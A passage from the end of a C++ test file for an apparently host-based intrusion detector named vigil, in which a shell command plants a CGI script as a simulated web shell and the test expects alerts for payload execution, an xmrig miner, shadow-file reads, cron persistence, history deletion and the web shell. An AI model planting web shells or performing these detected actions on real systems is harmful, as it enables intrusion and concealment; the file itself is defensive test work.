      "mkdir -p /www/cgi-bin && printf '#!/bin/sh\\necho\\nid\\n' > /www/cgi-bin/x && chmod 755 /www/cgi-bin/x\n"
      "httpd -p 127.0.0.1:8080 -h /www && sleep 0.5 && wget -q -O - http://127.0.0.1:8080/cgi-bin/x",
      {kTempExec, kMiner, kShadow, kCron, kHistory, kWebShell});
  ExpectAlert(alerts, kTempExec, "payload");
  ExpectAlert(alerts, kMiner, "xmrig");
  ExpectAlert(alerts, kShadow, "cat");
  ExpectAlert(alerts, kCron, "sh");
  ExpectAlert(alerts, kHistory, "rm");
  ExpectAlert(alerts, kWebShell, "x");
  ExpectOnly(alerts, {kTempExec, kMiner, kShadow, kCron, kHistory, kWebShell});
}

}  // namespace
}  // namespace vigil
